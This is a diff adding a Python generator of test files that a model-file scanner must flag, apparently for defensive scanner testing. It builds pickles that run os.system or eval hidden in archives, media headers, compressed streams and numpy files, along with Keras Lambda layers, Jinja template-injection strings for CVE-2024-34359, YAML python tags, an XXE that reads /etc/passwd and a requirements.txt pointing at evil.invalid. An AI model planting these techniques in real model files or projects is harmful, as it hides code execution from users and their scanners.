@@ -1,0 +1,336 @@
+# SPDX-License-Identifier: MIT
+"""Makes files that a scanner must not call clean, by class: what runs code in a loader, and what nobody has recognized.
+They do nothing but name functions, and nothing here loads them."""
+import bz2
+import gzip
+import io
+import json
+import lzma
+import pickle
+import random
+import struct
+import tarfile
+import zipfile
+import zlib
+
+CALL = b"cos\nsystem\n(S'true'\ntR."  # os.system('true') in protocol 0
+
+
+def binary_call(protocol=2):
+    return b"\x80" + bytes([protocol]) + b"cos\nsystem\nX\x04\x00\x00\x00true\x85R."
+
+
+# What Python's reader takes, before a call: values in all their spellings, and operations on them.
+PREFIXES = {
+    "int-hex": b"I0x10\n0", "int-octal": b"I0o17\n0", "int-underscore": b"I1_000\n0", "int-spaces": b"I 7 \n0",
+    "int-plus": b"I+7\n0", "long": b"L7L\n0", "long-hex": b"L0x1fL\n0", "long-spaces": b"L  7L\n0", "long-bare": b"L7\n0",
+    "false": b"I00\n0", "true": b"I01\n0", "float-inf": b"Finf\n0", "float-nan": b"Fnan\n0", "float-underscore": b"F1_0.5\n0",
+    "float-spaces": b"F 1.5 \n0", "string-double": b"S\"a\"\n0", "string-escape": b"S'\\x41\\n'\n0", "string-spaces": b"S'a'  \n0",
+    "string-high": b"S'\\xff'\n0", "unicode-surrogate": b"V\\ud800\n0", "unicode-latin": b"V\xe9\n0",
+    "put-spaces": b"I1\np 5 \ng 5\n00", "put-underscore": b"I1\np1_0\ng10\n00", "put-plus": b"I1\np+3\ng3\n00",
+    "get-zeros": b"I1\np7\ng007\n00", "put-large": b"I1\np4294967296\ng4294967296\n00", "binput": b"I1\nq\x05h\x0500",
+    "longbinput": b"I1\nr\x00\x00\x01\x00j\x00\x00\x01\x0000", "append": b"(lI1\na0", "appends": b"](I1\nI2\ne0",
+    "dict": b"(dI1\nI2\ns0", "dict-items": b"(I1\nI2\nd0", "mark-pop": b"(I1\nI2\n10", "dup": b"I1\n200", "tuple-1": b"I1\n\x850",
+    "tuple-2": b"I1\nI2\n\x860", "tuple-3": b"I1\nI2\nI3\n\x870", "empty-tuple": b")0", "empty-dict": b"}0", "none": b"N0",
+    "newtrue": b"\x880", "newfalse": b"\x890", "long1-empty": b"\x8a\x000", "long1": b"\x8a\x02\xff\x000",
+    "long4": b"\x8b\x02\x00\x00\x00\xff\x000", "bytearray": b"\x96\x01\x00\x00\x00\x00\x00\x00\x00a0",
+    "bytearray-append": b"\x96\x00\x00\x00\x00\x00\x00\x00\x00K\x07a0",
+    "bytearray-appends": b"\x96\x00\x00\x00\x00\x00\x00\x00\x00(K\x01K\x02e0", "set": b"\x8f(K\x01\x900", "frozenset": b"(K\x01\x910",
+    "binbytes": b"B\x01\x00\x00\x00a0", "shortbinbytes": b"C\x01a0", "binbytes8": b"\x8e\x01\x00\x00\x00\x00\x00\x00\x00a0",
+    "binunicode8": b"\x8d\x01\x00\x00\x00\x00\x00\x00\x00a0", "shortbinunicode": b"\x8c\x01a0",
+    "binfloat": b"G\x3f\xf0\x00\x00\x00\x00\x00\x000", "binstring": b"T\x01\x00\x00\x00a0", "shortbinstring": b"U\x01a0",
+    "memoize": b"N\x940", "frame": b"\x95\x02\x00\x00\x00\x00\x00\x00\x00N0", "protocol-twice": b"\x80\x02\x80\x04",
+    "protocol-middle": b"N\x80\x030", "append-tuple": b"]N\x85a0", "pops": b"NN00", "setitems-empty": b"}(u0",
+    "appends-empty": b"](e0", "list-of-mark": b"(l0", "tuple-in-mark": b"((tl0",
+}
+
+# Ways to a call, and functions that run code or read files.
+CALLS = {
+    "reduce": CALL, "inst": b"(S'true'\nios\nsystem\n.", "obj": b"(cos\nsystem\nS'true'\no.",
+    "newobj": b"\x80\x02cos\nsystem\nS'true'\n\x85\x81.", "newobj-ex": b"\x80\x04cos\nsystem\nS'true'\n\x85}\x92.",
+    "stack-global": b"\x80\x04\x8c\x02os\x8c\x06system\x93\x8c\x04true\x85R.",
+    "stack-global-memo": b"\x80\x04\x8c\x02os\x940\x8c\x06system\x940h\x00h\x01\x93\x8c\x04true\x85R.",
+    "stack-global-eval": b"\x80\x04\x8c\x08builtins\x8c\x04eval\x93\x8c\x011\x85R.",
+    "dotted-name": b"\x80\x04\x8c\x0bcollections\x8c\x17abc.sys.modules.__len__\x93)R.",
+    "build": b"cbuiltins\nobject\n)\x81}S'__setstate__'\ncos\nsystem\nsb.", "python-2": b"c__builtin__\neval\n(S'1'\ntR.",
+    "decode-before": b"c_codecs\ndecode\n(S'1'\nS'hex'\ntR0" + CALL,
+    "attrgetter": b"coperator\nattrgetter\n(S'system'\ntR(cos\n__dict__\ntR.", "import-module": b"cimportlib\nimport_module\n(S'os'\ntR.",
+    "getattr": b"c__builtin__\ngetattr\n(cos\npath\nS'os'\ntR.", "ext1": b"\x80\x02\x82\x01)R.", "ext2": b"\x80\x02\x83\x01\x00)R.",
+    "ext4": b"\x80\x02\x84\x01\x00\x00\x00)R.", "persistent-id": b"Pabc\n0" + CALL, "binary-persistent-id": b"NQ0" + CALL,
+    "next-buffer": b"\x80\x05\x970" + CALL, "cyrillic-name": "c\u043es\nsystem\n(S'true'\ntR.".encode(),
+    "name-space": b"cos \nsystem\n(S'true'\ntR.",
+}
+FUNCTIONS = ["runpy run_path", "torch load", "numpy load", "pip main", "ctypes CDLL", "cProfile run", "timeit timeit", "pdb run", "bdb Bdb",
+             "asyncio.unix_events _UnixSubprocessTransport", "idlelib.pyshell ModifiedInterpreter",
+             "numpy.testing._private.utils runstring", "torch.jit.unsupported_tensor_ops execWrapper", "doctest debug_script",
+             "profile run", "trace Trace", "code InteractiveInterpreter", "ensurepip _run_pip", "lib2to3.pgen2.grammar Grammar",
+             "uuid _get_command_stdout", "logging.config fileConfig", "webbrowser open", "shelve open", "zipimport zipimporter"]
+
+# First bytes of files that are no models.
+HEADS = {
+    "png": b"\x89PNG\r\n\x1a\n" + struct.pack(">I", 13) + b"IHDR" + bytes(13), "jpeg": b"\xff\xd8\xff\xe0\0\x10JFIF",
+    "gif": b"GIF89a" + bytes(10), "webp": b"RIFF\0\0\0\0WEBPVP8 ", "wav": b"RIFF\0\0\0\0WAVEfmt ", "ogg": b"OggS\0\2",
+    "mp3": b"ID3\4\0\0\0\0\0\0", "mp4": b"\0\0\0\x18ftypmp42", "icon": b"\0\0\1\0\1\0", "flac": b"fLaC\0\0\0\x22",
+    "parquet": b"PAR1\0\0", "arrow": b"ARROW1\0\0", "font": b"wOFF\0\1\0\0", "pdf": b"%PDF-1.4\n", "bmp": b"BM\0\0", "text": b"hello\n",
+    "safetensors": struct.pack("<Q", 2) + b"{}",
+}
+
+LAMBDA = {"class_name": "Lambda", "config": {"function": {"class_name": "__lambda__", "config": {"code": "4wEAAAA="}}}}
+LAYERS = {
+    "lambda": LAMBDA, "lambda-module": dict(LAMBDA, module="keras.src.layers.core.lambda_layer"),
+    "function": {"class_name": "TFOpLambda", "config": {"function": "io.write_file"}},
+    "operator": {"class_name": "TensorFlowOpLayer", "config": {"node_def": {"op": "WriteFile"}}},
+    "time-distributed": {"class_name": "TimeDistributed", "config": {"layer": LAMBDA}},
+    "bidirectional": {"class_name": "Bidirectional", "config": {"layer": LAMBDA}},
+    "class-of-os": {"class_name": "system", "module": "os", "config": {}},
+    "registered": {"class_name": "X", "registered_name": "evil>X", "module": "evil", "config": {}},
+    "initializer": {"class_name": "Dense", "module": "keras.layers", "config": {
+        "units": 1, "kernel_initializer": {"class_name": "run", "module": "subprocess", "config": {}}}},
+    "activation": {"class_name": "Dense", "config": {
+        "units": 1, "activation": {"class_name": "function", "module": "os", "config": "system"}}},
+    "builtin": {"class_name": "function", "module": "builtins", "config": "eval"},
+    "loss": {"class_name": "Dense", "config": {"loss": {"class_name": "__lambda__", "config": {}}}},
+    "get-file": {"class_name": "function", "module": "keras.utils", "config": "get_file"},
+    "torch-module": {"class_name": "TorchModuleWrapper", "module": "keras.layers", "config": {"module": "gAJ9Lg=="}},
+    "vocabulary-file": {"class_name": "StringLookup", "config": {"vocabulary": "/etc/passwd"}},
+    "jax-layer": {"class_name": "JaxLayer", "config": {}}, "name-space": {"class_name": "Lambda ", "config": {}},
+}
+
+# CVE-2024-34359 and its variants.
+TEMPLATES = [
+    "{{ ''.__class__.__mro__[1].__subclasses__() }}", "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
+    "{{ ''|attr('__class__') }}", "{{ ''|attr('\\x5f\\x5fclass\\x5f\\x5f') }}",
+    "{% for m in messages %}{{ m.content.__class__ }}{% endfor %}", "{{ self._TemplateReference__context }}",
+    "{{ lipsum.__globals__['os'].popen('id') }}", "{{ joiner.__init__ }}", "{{ namespace.__init__.__globals__ }}",
+    "{% set a = '__cl' ~ 'ass__' %}{{ ''[a] }}", "{{ ''['__class__'] }}", "{{ request.application }}",
+    "{{ get_flashed_messages.__globals__ }}", "{{ config.items() }}", "{% import 'os' as os %}{{ os.system('id') }}",
+    "{% include '/etc/passwd' %}", "{{ messages.__len__() }}", "{{ (messages|map(attribute='__class__')|list)[0] }}",
+    "{{ raise_exception.__globals__ }}", "{{ strftime_now.__globals__ }}", "{{ ''.format.__self__ }}",
+    "{{ '{0.__class__}'.format(messages) }}", "{% if",
+]
+
+# Files that name code, and scripts under any name.
+CONFIGURATIONS = {
+    "auto-map/config.json": json.dumps({"auto_map": {"AutoModel": "modeling_x.X"}}),
+    "auto-map-elsewhere/config.json": json.dumps({"auto_map": {"AutoModel": "other/repo--modeling.X"}}),
+    "hydra.yaml": "model:\n  _target_: os.system\n  _args_: [id]\n", "hydra.json": json.dumps({"_target_": "builtins.eval", "_args_": ["1"]}),
+    "yaml-apply.yaml": "!!python/object/apply:os.system [\"id\"]\n", "yaml-new.yml": "a: !!python/object/new:os.system [id]\n",
+    "yaml-name.yaml": "a: !!python/name:os.system\n", "yaml-module.yaml": "a: !!python/module:os\n",
+    "yaml-tag.yaml": "%TAG ! tag:yaml.org,2002:python/object/apply:\n---\n!os.system [id]\n",
+    "yaml-verbatim.yaml": "a: !<tag:yaml.org,2002:python/object/apply:os.system> [id]\n",
+    "modules.json": json.dumps([{"idx": 0, "name": "0", "path": "", "type": "evil.Module"}]),
+    "adapter_config.json": json.dumps({"peft_type": "LORA", "auto_mapping": {"base_model_class": "X", "parent_library": "evil"}}),
+    "MLmodel": "flavors:\n  python_function:\n    loader_module: os\n", "site.pth": "import os; os.system(\"id\")\n", "setup.py": "import os\n",
+    "x.pyw": "import os\n", "run.bat": "@echo off\r\ncalc\r\n", "run.cmd": "calc\r\n", "run.ps1": "Start-Process calc\n",
+    "x.js": "require(\"child_process\").exec(\"id\")\n", "x.vbs": "CreateObject(\"WScript.Shell\").Run \"calc\"\n",
+    "Makefile": "all:\n\tid\n", "run.sh": "id\n", "script": "#!/bin/sh\nid\n", "x.php": "<?php system(\"id\");\n",
+    "x.html": "<script>alert(1)</script>\n", "x.svg": "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>",
+    "x.desktop": "[Desktop Entry]\nExec=id\nType=Application\n",
+    "x.xml": "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>",
+    "x.pmml": "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b \"bbb\"><!ENTITY c \"&b;&b;\">]><PMML>&c;</PMML>",
+    "x.ipynb": json.dumps({"cells": [{"cell_type": "code", "source": ["!id"]}]}), "Dockerfile": "FROM x\nRUN id\n", "x.rb": "system(\"id\")\n",
+    "conda.yaml": "dependencies:\n - pip:\n   - evil\n", "requirements.txt": "--index-url http://evil.invalid\nevil\n",
+    "x.pbtxt": "node { name: \"a\" op: \"PyFunc\" }\n", "x.onnxtxt": "<ir_version: 7, opset_import: [\"evil\":1]>\n",
+    "hubconf.py": "import os\n", "handler.py": "import os\n", ".gitattributes": "* filter=evil\n",
+}
+
+
+def zipped(members, comment=b"", method=zipfile.ZIP_STORED):
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", method) as archive:
+        for name, data in members:
+            archive.writestr(name, data)
+        archive.comment = comment
+    return out.getvalue()
+
+
+def patched(data, at, value):
+    return data[:at] + value + data[at + len(value):]
+
+
+def without_count(archive):
+    """The same archive, whose end record says that it has no members: readers go by the directory before it."""
+    end = archive.rfind(b"PK\5\6")
+    return patched(patched(archive, end + 8, b"\0\0"), end + 10, b"\0\0")
+
+
+def tarred(members, form=tarfile.GNU_FORMAT):
+    out = io.BytesIO()
+    with tarfile.open(fileobj=out, mode="w", format=form) as archive:
+        for name, data in members:
+            member = tarfile.TarInfo(name)
+            member.size = len(data)
+            archive.addfile(member, io.BytesIO(data))
+    return out.getvalue()
+
+
+def npy(dtype, data=None, version=1):
+    head = ("{'descr': %s, 'fortran_order': False, 'shape': (1,), }" % dtype).encode()
+    head += b" " * (-(len(head) + 11) % 64) + b"\n"
+    length = struct.pack("<H" if version == 1 else "<I", len(head))
+    return b"\x93NUMPY" + bytes([version, 0]) + length + head + (binary_call() if data is None else data)
+
+
+def keras(configuration):
+    text = configuration if isinstance(configuration, (str, bytes)) else json.dumps(configuration)
+    return zipped([("metadata.json", "{\"keras_version\":\"3.0.0\"}"), ("config.json", text), ("model.weights.h5", b"")])
+
+
+def gguf(keys):
+    out = b"GGUF" + struct.pack("<IQQ", 3, 0, len(keys))
+    for key, value in keys:
+        out += struct.pack("<Q", len(key)) + key.encode() + struct.pack("<IQ", 8, len(value)) + value.encode()
+    return out
+
+
+def pickles():
+    for name, data in PREFIXES.items():
+        yield "pickle-prefix/%s.pkl" % name, data + CALL
+        yield "pickle-prefix/%s.p4.pkl" % name, b"\x80\x04" + data + CALL
+    calls = dict(CALLS)
+    for function in FUNCTIONS:
+        module, name = function.split()
+        calls[module] = ("c%s\n%s\n(S'1'\ntR." % (module, name)).encode()
+    for name, data in calls.items():
+        for suffix in (".pkl", ".bin"):
+            yield "pickle-call/" + name + suffix, data
+    for suffix in (".txt", ".json", ".md", ".cfg", ".csv", ".yaml", ".log", ".npy", ".safetensors", ".gguf", ".onnx", ".h5", ".png", ".model", ""):
+        yield "pickle-name/text" + suffix, CALL
+        yield "pickle-name/binary" + suffix, binary_call()
+    none = b"\x80\x02N."
+    for i, between in enumerate((b"", b"\n", b"\0", b"N.", none)):
+        yield "pickle-second/second-%d.pkl" % i, none + between + binary_call()
+    yield "pickle-second/third.pkl", none * 2 + binary_call()
+    yield "pickle-second/hundredth.pkl", none * 100 + binary_call()
+    yield "pickle-second/after-12000.pkl", none * 12000 + binary_call()
+    yield "pickle-second/in-bytes.pkl", pickle.dumps(binary_call())
+    yield "pickle-second/text-in-bytes.pkl", pickle.dumps(CALL)
+    yield "pickle-second/many-values.pkl", b"\x80\x02(" + b"N" * 2_000_000 + b"10" + CALL
+    yield "pickle-second/many-memos.pkl", b"\x80\x02" + b"".join(b"Nq%c0" % (i % 256) for i in range(100000)) + CALL
+    for i, garbage in enumerate((b"\xff", b"\x00", b"\x80\x07", b"\x80\xff", b"#!", b" ", b"\n")):
+        yield "pickle-damaged/unknown-%d.pkl" % i, b"\x80\x02N0" + garbage + binary_call()
+
+
+def archives():
+    archive = zipped([("a/data.pkl", binary_call()), ("a/version", "3\n")])
+    end = archive.rfind(b"PK\5\6")
+    noise = random.Random(0)
+    for name, head in HEADS.items():
+        yield "media/%s-zip.%s" % (name, name), head + archive
+        yield "media/%s-pickle.%s" % (name, name), head + bytes(64) + binary_call()
+        yield "media/%s-zip-count-0.%s" % (name, name), head + without_count(archive)
+        yield "media/%s-noise.%s" % (name, name), head + noise.randbytes(3000)
+    call = [("a/data.pkl", binary_call() + bytes(1000))]
+    harmless = ("a/data.pkl", b"\x80\x02N.")
+    yield "zip/plain.pt", archive
+    yield "zip/count-0.pt", without_count(archive)
+    yield "zip/count-9.pt", patched(patched(archive, end + 8, b"\x09\0"), end + 10, b"\x09\0")
+    yield "zip/comment.pt", zipped(call, b"x" * 60000)
+    yield "zip/comment-with-end.pt", zipped(call, b"PK\5\6" + bytes(18))
+    yield "zip/data-before.pt", bytes(1000) + archive
+    yield "zip/data-after.pt", archive + bytes(1000)
+    yield "zip/behind-another.pt", zipped([harmless]) + archive
+    yield "zip/before-another.pt", archive + zipped([harmless])
+    yield "zip/deflate.pt", zipped(call, method=zipfile.ZIP_DEFLATED)
+    yield "zip/bzip2.pt", zipped(call, method=zipfile.ZIP_BZIP2)
+    yield "zip/lzma.pt", zipped(call, method=zipfile.ZIP_LZMA)
+    yield "zip/upper-case.pt", zipped([("a/DATA.PKL", binary_call())])
+    yield "zip/no-suffix.zip", zipped([("readme", CALL)])
+    yield "zip/text.zip", zipped([("readme.txt", CALL)])
+    yield "zip/image.zip", zipped([("x.png", HEADS["png"] + binary_call())])
+    yield "zip/nested.zip", zipped([("x.zip", archive)])
+    deep = archive
+    for _ in range(5):
+        deep = zipped([("x", deep)])
+    yield "zip/nested-deep.zip", deep
+    yield "zip/folder-with-data.zip", zipped([("x/", binary_call())])
+    yield "zip/storage.pt", zipped([harmless, ("a/data/0", binary_call())])
+    yield "zip/storage-text.pt", zipped([harmless, ("a/data/0", CALL)])
+    yield "zip/version.pt", zipped([harmless, ("a/version", CALL)])
+    yield "zip/encrypted.pt", patched(archive, 6, b"\1\0")
+    yield "zip/other-local-name.pt", patched(archive, archive.find(b"a/data.pkl"), b"a/none.txt")
+    yield "zip/method-99.pt", patched(archive, 8, b"\x63\0")
+    many = [("big%d.pkl" % i, b"\x80\x02(" + b"N" * 400_000 + b"10.") for i in range(4)]
+    yield "zip/many-values-before.zip", zipped(many + [("z.pkl", binary_call())], method=zipfile.ZIP_DEFLATED)
+    yield "zip/java.jar", zipped([("A.class", b"\xca\xfe\xba\xbe\0\0\0\x34")])
+    yield "zip/wheel.whl", zipped([("a.py", "import os")])
+    tape = tarred([("x.pkl", binary_call())])
+    for name, form in (("gnu", tarfile.GNU_FORMAT), ("pax", tarfile.PAX_FORMAT), ("ustar", tarfile.USTAR_FORMAT)):
+        yield "tar/%s.tar" % name, tarred([("x.pkl", binary_call())], form)
+
+    def with_header(change, signed=False, encode=lambda total: b"%06o\0 " % total):
+        head = bytearray(tape[:512])
+        change(head)
+        head[148:156] = b" " * 8
+        head[148:156] = encode(sum(each - 256 if signed and each > 127 else each for each in head))
+        return bytes(head) + tape[512:]
+
+    def old(head):
+        head[257:265] = bytes(8)
+
+    def latin(head):
+        head[0:6] = b"\xe9\xe9.pkl"
+
+    def binary_size(head):
+        head[124:136] = b"\x80" + len(binary_call()).to_bytes(11, "big")
+
+    yield "tar/binary-size.tar", with_header(binary_size)
+    for suffix in ("tar", "dat", "png"):
+        yield "tar/old.%s" % suffix, with_header(old)
+    yield "tar/signed-checksum.tar", with_header(latin, signed=True)
+    yield "tar/binary-checksum.tar", with_header(latin, encode=lambda total: b"\x80" + total.to_bytes(7, "big"))
+    yield "tar/spaces-in-checksum.tar", patched(tape, 148, b" " + tape[148:154].lstrip(b"0").rjust(6) + b"\0")
+    yield "tar/text.tar", tarred([("x.txt", CALL)])
+    yield "tar/zeros-before.tar", bytes(512) + tape
+    packers = {"gz": gzip.compress, "bz2": bz2.compress, "xz": lzma.compress, "zlib": zlib.compress,
+               "lzma": lambda data: lzma.compress(data, lzma.FORMAT_ALONE)}
+    for name, pack in packers.items():
+        yield "compressed/tar." + name, pack(tape)
+        yield "compressed/pickle." + name, pack(binary_call())
+        yield "compressed/pickle.pkl." + name, pack(CALL)
+        yield "compressed/model-%s.joblib" % name, pack(binary_call())
+    yield "compressed/second-stream.gz", gzip.compress(b"hello") + gzip.compress(binary_call())
+    yield "compressed/joblib-0.10.joblib", b"ZF" + hex(len(binary_call())).ljust(19).encode() + zlib.compress(binary_call())
+    dtypes = {"object": "'|O'", "object-8": "'O8'", "object-4": "'|O4'", "by-name": "'object'", "space": "' |O'", "field": "[('a', '|O')]",
+              "nested-field": "[('a', [('b', '|O')])]", "tuple": "('|O', (1,))", "concatenated": "'|' 'O'", "escaped": "'\\x7cO'",
+              "dict": "{'names': ['a'], 'formats': ['O']}", "comma": "'i4,O'", "raw": "r'|O'", "unicode": "u'|O'", "parentheses": "('|O')",
+              "twice": "'<f4', 'descr': '|O'"}
+    for name, dtype in dtypes.items():
+        yield "numpy/%s.npy" % name, npy(dtype)
+        yield "numpy/%s-2.npy" % name, npy(dtype, version=2)
+        yield "numpy/%s.npz" % name, zipped([("a.npy", npy(dtype))])
+    yield "numpy/pickle-behind.npy", npy("'|u1'", b"\0" + binary_call())
+
+
+def models():
+    for name, layer in LAYERS.items():
+        whole = {"class_name": "Functional", "module": "keras", "config": {"name": "m", "layers": [layer]}}
+        yield "keras/%s.keras" % name, keras(whole)
+        yield "keras/%s.json" % name, json.dumps(whole)
+        yield "keras/%s.txt" % name, json.dumps(whole)
+    lambdas = {"class_name": "Sequential", "config": {"layers": [LAMBDA]}}
+    yield "keras/escaped.keras", keras(json.dumps(lambdas).replace("Lambda", "\\u004cambda"))
+    yield "keras/utf-16.keras", keras(json.dumps(lambdas).encode("utf-16"))
+    yield "keras/long.json", json.dumps({"pad": "x" * (3 << 20), "model": lambdas})
+    yield "keras/twice.keras", keras("{\"class_name\":\"Functional\",\"class_name\":\"Lambda\",\"config\":{}}")
+    yield "keras/json-in-json.json", json.dumps({"model_config": json.dumps(lambdas)})
+    for i, template in enumerate(TEMPLATES):
+        yield "template/%02d.jinja" % i, template
+        yield "template/%02d.gguf" % i, gguf([("general.architecture", "llama"), ("tokenizer.chat_template", template)])
+        yield "template/%02d/tokenizer_config.json" % i, json.dumps({"chat_template": template})
+    for name, text in CONFIGURATIONS.items():
+        yield "configuration/" + name, text
+    noise = random.Random(1)
+    archive = zipped([("a/data.pkl", binary_call())])
+    for name in ("model.bin", "a.dat", "weights.data-00000-of-00001", "x.onnx_data", "x.onnx.data", "fingerprint.pb", "x.raw", "x.params",
+                 "consolidated.00.pth", "x.ckpt", "x.pt", "noname"):
+        yield "raw/" + name, noise.randbytes(4096)
+        yield "raw/pickle-" + name, noise.randbytes(100) + binary_call() + noise.randbytes(100)
+        yield "raw/zip-" + name, b"\1" * 500 + archive
+
+
+def files():
+    """Pairs of 'class/name' and content."""
+    for make in (pickles, archives, models):
+        for name, content in make():
+            yield name, content.encode() if isinstance(content, str) else content
